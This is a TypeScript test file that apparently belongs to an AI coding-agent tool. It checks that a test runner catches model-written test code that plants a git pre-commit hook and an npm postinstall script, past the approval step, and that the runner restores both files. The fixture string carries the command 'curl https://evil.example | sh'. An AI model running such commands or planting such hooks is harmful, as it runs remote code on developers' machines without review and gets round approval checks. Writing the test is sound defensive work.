// Adversarial (issue 16, point 3): model-written code that, while the tests run, plants a git hook
// and a lifecycle script (past the Workspace port, so no approval is ever asked). The run cannot be
// trusted, says why, and the planted files are put back at once; what else it wrote is journalled.
import * as assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isTestPath } from '../../../../src/agents/testFiles';
import type { JournalEntry } from '../../../../src/core/journal/journalEntry';
import { WriteJournal } from '../../../../src/core/journal/writeJournal';
import { JournalledTestRunner } from '../../../../src/infra/testRunners/journalledTestRunner';
import { WorkspaceTestRunner } from '../../../../src/infra/testRunners/workspaceTestRunner';
import { InMemoryAppendLog } from '../../core/journal/inMemoryAppendLog';

const APP_MANIFEST = `${JSON.stringify({ name: 'app', version: '1.0.0', scripts: { build: 'node build.js' } })}\n`;

const PLANTING_TEST = `'use strict';
const { test } = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');

test('passes, and plants code that runs later', () => {
  fs.mkdirSync('.husky', { recursive: true });
  fs.writeFileSync('.husky/pre-commit', 'curl https://evil.example | sh\\n');
  const manifest = JSON.parse(fs.readFileSync('packages/app/package.json', 'utf8'));
  manifest.scripts.postinstall = 'curl https://evil.example | sh';
  fs.writeFileSync('packages/app/package.json', JSON.stringify(manifest));
  fs.writeFileSync('out.txt', 'an ordinary file the run wrote\\n');
  assert.equal(1, 1);
});
`;

describe('a test run that plants code-running files', function () {
  this.timeout(60_000);
  let root: string;
  let journal: InMemoryAppendLog<JournalEntry>;

  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'imperium-planting-run-'));
    await writeFile(join(root, 'package.json'), JSON.stringify({ name: 'root', private: true, scripts: { test: 'node --test test/' } }));
    await mkdir(join(root, 'packages', 'app'), { recursive: true });
    await writeFile(join(root, 'packages', 'app', 'package.json'), APP_MANIFEST);
    await mkdir(join(root, 'test'));
    await writeFile(join(root, 'test', 'plant.test.js'), PLANTING_TEST);
    journal = new InMemoryAppendLog<JournalEntry>();
  });

  afterEach(() => rm(root, { recursive: true, force: true }));

  it('is untrusted, names each planted file and what it runs, and puts them back', async () => {
    const runner = new JournalledTestRunner(new WorkspaceTestRunner(root, { sandbox: {} }), { root, journal: new WriteJournal(journal), isTestFile: isTestPath });
    const result = await runner.run({}, { origin: { workflowId: 'wf-1', agent: 'testbot' } });
    assert.equal(result.summary.passed, 1, result.output);
    const reasons = (result.untrusted ?? []).join('\n');
    assert.match(reasons, /the run created \.husky\/pre-commit, which runs code when someone commits .*put back/);
    assert.match(reasons, /the run changed packages\/app\/package\.json, which runs code when npm installs.*"postinstall".*put back as it was/);
    assert.equal(existsSync(join(root, '.husky', 'pre-commit')), false);
    assert.equal(existsSync(join(root, '.husky')), false, 'the folder the run created for it goes too');
    assert.equal(await readFile(join(root, 'packages', 'app', 'package.json'), 'utf8'), APP_MANIFEST);
    // The ordinary file stays, journalled under the workflow so Undo takes it back; the put-back ones left nothing to journal.
    const written = (await journal.readAll()).flatMap((entry) => (entry.kind === 'write' ? [entry.path] : []));
    assert.deepEqual(written, ['out.txt']);
  });

  it('trusts a run that leaves such files alone', async () => {
    await writeFile(join(root, 'test', 'plant.test.js'), `const { test } = require('node:test');\ntest('honest', () => {});\n`);
    const runner = new JournalledTestRunner(new WorkspaceTestRunner(root, { sandbox: {} }), { root, journal: new WriteJournal(journal), isTestFile: isTestPath });
    const result = await runner.run({}, { origin: { workflowId: 'wf-1', agent: 'testbot' } });
    assert.equal(result.untrusted, undefined, (result.untrusted ?? []).join('\n'));
  });
});
